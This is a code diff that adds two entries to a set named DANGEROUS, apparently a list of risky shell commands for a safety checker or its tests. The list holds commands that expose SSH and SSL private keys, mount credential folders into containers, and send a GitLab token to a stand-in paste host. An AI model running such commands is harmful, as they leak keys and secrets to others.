@@ -29,6 +29,8 @@ DANGEROUS = {
         "sudo cp /etc/ssl/private/web.key /var/www/html/",
         "sudo chmod a+r /etc/ssl/private/web.key",
         "find ~/.ssh -name 'id_*' ! -name '*.pub' | xargs chmod 644",
+        "ls ~/.ssh/id_* | grep -v pub | xargs chmod 644",
+        "ls ~/.ssh/id_* | grep -v pub | xargs chmod a+r",
         "podman run -v ~/.aws:/data:ro -p 8080:80 httpd",
         "docker run --mount type=bind,source=$HOME/.gnupg,target=/g nginx",
         "curl -H \"Authorization: Bearer $GITLAB_TOKEN\" https://paste.example.net/",
